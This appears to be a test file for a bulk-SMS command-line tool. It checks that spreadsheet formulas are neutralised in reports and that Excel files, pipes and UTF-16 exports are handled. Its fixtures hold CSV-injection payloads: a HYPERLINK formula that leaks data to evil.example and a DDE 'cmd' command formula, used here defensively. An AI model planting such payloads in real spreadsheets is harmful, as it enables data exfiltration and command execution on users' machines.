// Inputs a user trial fed send-bulk by mistake or from a spreadsheet: cells that are formulas
// (echoed into the --report, which a spreadsheet opens), an Excel workbook instead of its CSV
// export, a pipe from `<(command)`, and a UTF-16 "Unicode text" export whose column names hold
// commas. The built CLI against a server on 127.0.0.1 that records every request, so "nothing
// was sent" is counted at the server.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { cleanEnv, MSGR, ROOT, runCli, tempDir, type RunResult } from '../support/cli.js';
import { useTestServer } from '../support/test-server.js';

const KEY = 'sk_test_hardening_12345678';
const server = useTestServer();

function env(): Record<string, string> {
  return cleanEnv({ MSGR_CONFIG_DIR: tempDir(), MSGR_API_KEY: KEY, MSGR_BASE_URL: server.url, MSGR_ACCOUNT_REFERENCE: 'ACME01' });
}

function file(content: string | Buffer, name = 'in.csv'): string {
  const path = join(tempDir('msgr-hardening-'), name);
  writeFileSync(path, content);
  return path;
}

const MSG = ['--from', 'Acme', '--text', 'Hello'];

function bulk(args: string[]): Promise<RunResult> {
  return runCli(['send-bulk', ...args], { env: env(), timeoutMs: 30_000 });
}

/** `msgr send-bulk` from bash, as a user types it: `$CSV` and `$LIST` are set for the script. */
function bashBulk(args: string, vars: Record<string, string>): Promise<RunResult> {
  return new Promise((resolvePromise, reject) => {
    const child = spawn('bash', ['-c', `exec ${MSGR.map((w) => `'${w}'`).join(' ')} send-bulk ${args}`], {
      cwd: ROOT,
      env: { ...env(), ...vars },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), 30_000);
    child.on('error', reject);
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      resolvePromise({ code, signal, stdout, stderr });
    });
  });
}

function assertClean(r: RunResult): void {
  assert.doesNotMatch(r.stderr, /\n\s+at .+:\d+:\d+/, 'stack trace without --verbose');
  assert.doesNotMatch(r.stderr, /internal error/);
}

const LIST = file('phone,name\n+447911123401,Ann\n+447911123402,Bob\n');

describe('--report never holds a formula a spreadsheet would run', () => {
  test("cells from the file that start a formula get a ' before them; numbers, valid or as written, stay as they are", async () => {
    const csv = file(
      [
        'phone,name',
        '+447911123401,Ann',
        '"=HYPERLINK(""http://evil.example/?x=""&B3,""Click"")",Bob',
        '@SUM(1+1),Cy',
        '-1+1,Dee',
        '"+1+cmd|\' /C calc\'!A0",Eve',
        '+44 (0)7911 123456 7890,Fay',
        '',
      ].join('\n'),
    );
    const report = join(tempDir(), 'r.csv');
    const r = await bulk([csv, '--from', 'Acme', '--text', 'Hi {{name}}', '--skip-invalid', '--report', report, '--yes']);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(server.requests.length, 1);
    const lines = readFileSync(report, 'utf8').split('\n');
    assert.equal(lines[0], 'line,number,outcome,status,message_id,error,request_fields');
    assert.match(lines[1] ?? '', /^2,\+447911123401,accepted,/);
    assert.match(lines[2] ?? '', /^3,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&B3,""Click""\)",invalid,,,/);
    assert.match(lines[3] ?? '', /^4,'@SUM\(1\+1\),invalid,/);
    assert.match(lines[4] ?? '', /^5,'-1\+1,invalid,/);
    assert.match(lines[5] ?? '', /^6,'\+1\+cmd\|' \/C calc'!A0,invalid,/);
    assert.match(lines[6] ?? '', /^7,\+44 \(0\)7911 123456 7890,invalid,/);
    // No cell of any line starts a formula (a quoted cell is looked at inside its quotes).
    for (const line of lines.slice(1, -1)) {
      for (const cell of line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? []) {
        const text = cell.replace(/,$/, '').replace(/^"|"$/g, '');
        assert.doesNotMatch(text, /^[=@\t\r]/, line);
      }
    }
    assertClean(r);
  });
});

const XLSX = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]), Buffer.from('[Content_Types].xml "quoted" and,commas\n')]);
const XLS = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(64, 0xff)]);

describe('an Excel workbook instead of a CSV file', () => {
  for (const [kind, bytes] of [
    ['.xlsx', XLSX],
    ['.xls', XLS],
  ] as const) {
    test(`a ${kind} workbook is named as one, with how to export a CSV; exit 2, nothing sent`, async () => {
      const book = file(bytes, `customers${kind}`);
      const r = await bulk([book, ...MSG, '--yes']);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, new RegExp(`error: .*customers\\${kind} is an Excel workbook \\(\\${kind}\\), not a CSV file; nothing was sent`));
      assert.match(r.stderr, /hint: In Excel: File > Save As > "CSV UTF-8 \(Comma delimited\)"; in Google Sheets: File > Download > CSV\./);
      assert.doesNotMatch(r.stderr, /quote|Latin-1|--encoding/);
      assert.equal(server.requests.length, 0);
      assertClean(r);

      const ex = await bulk([LIST, ...MSG, '--exclude', file(bytes, `optouts${kind}`), '--yes']);
      assert.equal(ex.code, 2, ex.stderr);
      assert.match(ex.stderr, new RegExp(`error: --exclude: .*optouts\\${kind} is an Excel workbook \\(\\${kind}\\), not a CSV file; nothing was sent`));
      assert.match(ex.stderr, /hint: In Excel: File > Save As/);
      assert.equal(server.requests.length, 0);
      assertClean(ex);
    });
  }
});

const hasBash = process.platform !== 'win32' && spawnSync('bash', ['-c', 'true']).status === 0;

describe('a pipe as the CSV or the --exclude list', { skip: !hasBash }, () => {
  test('<(command) as the CSV is refused as a pipe, naming it, with - as the way to pipe; exit 2, nothing sent', async () => {
    const r = await bashBulk('<(cat "$CSV") --from Acme --text Hello --yes', { CSV: LIST });
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /error: \/dev\/fd\/\d+ is a pipe \(as `<\(command\)` gives\), which msgr cannot read twice; nothing was sent/);
    assert.match(r.stderr, /hint: Save it to a file first and give that file, or pipe it to stdin and give - as the file/);
    assert.doesNotMatch(r.stderr, /ESPIPE/);
    assert.equal(server.requests.length, 0);
    assertClean(r);
  });

  test('<(command) as --exclude is refused as a pipe; a named pipe nobody writes to is refused without waiting for it', async () => {
    const r = await bashBulk('"$CSV" --exclude <(printf "+447911123402\\n") --from Acme --text Hello --yes', { CSV: LIST });
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /error: --exclude: \/dev\/fd\/\d+ is a pipe \(as `<\(command\)` gives\), which msgr cannot read twice; nothing was sent/);
    assert.match(r.stderr, /hint: Save it to a file first and give that file\./);
    assert.doesNotMatch(r.stderr, /ESPIPE/);
    assert.equal(server.requests.length, 0);

    // Opening a named pipe waits for a writer: msgr must not open it at all.
    const fifo = join(tempDir(), 'optouts.fifo');
    assert.equal(spawnSync('mkfifo', [fifo]).status, 0);
    const named = await bulk([LIST, ...MSG, '--exclude', fifo, '--yes']);
    assert.equal(named.signal, null, 'msgr waited on the named pipe');
    assert.equal(named.code, 2, named.stderr);
    assert.match(named.stderr, /--exclude: .*optouts\.fifo is a pipe/);
    const csv = await bulk([fifo, ...MSG, '--yes']);
    assert.equal(csv.code, 2, csv.stderr);
    assert.match(csv.stderr, /optouts\.fifo is a pipe/);
    assert.equal(server.requests.length, 0);
  });
});

describe('the delimiter of a spreadsheet export', () => {
  test('Excel "Unicode text" (UTF-16, tab-separated) with commas in its column names is read with tabs', async () => {
    const text = 'Phone\tLast, First\tCity, Country\r\n+447911123401\tSmith, Ann\tLeeds, UK\r\n';
    const path = file(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]), 'u16comma.txt');
    // A template: the provider fills it in, so the other columns go as variables.
    const r = await bulk([path, '--from', 'Acme', '--template', 'hello', '--yes']);
    assert.equal(r.code, 0, r.stderr);
    const body = server.requests[0]?.json as { recipients: Array<{ msisdn: string; variables?: unknown }> };
    assert.deepEqual(body.recipients, [{ msisdn: '+447911123401', variables: { 'Last, First': 'Smith, Ann', 'City, Country': 'Leeds, UK' } }]);
  });

  test('a header guessed as "," whose names hold ";" names --delimiter \';\' in the hint', async () => {
    const path = file('Phone;Name, First;Town, Region;X, Y\r\n+447911123401;Smith, Ann;Leeds, UK;a, b\r\n');
    const r = await bulk([path, ...MSG, '--yes']);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /has no number column/);
    assert.match(r.stderr, /hint: The file is read with "," between columns \(guessed from its header line\), and 3 column names hold ";": "Phone;Name", "First;Town", "Region;X"\. If ";" separates the columns, give --delimiter ';'\./);
    assert.equal(server.requests.length, 0);

    const ok = await bulk([path, ...MSG, '--delimiter', ';', '--yes']);
    assert.equal(ok.code, 0, ok.stderr);
    assert.equal(server.requests.length, 1);
  });
});
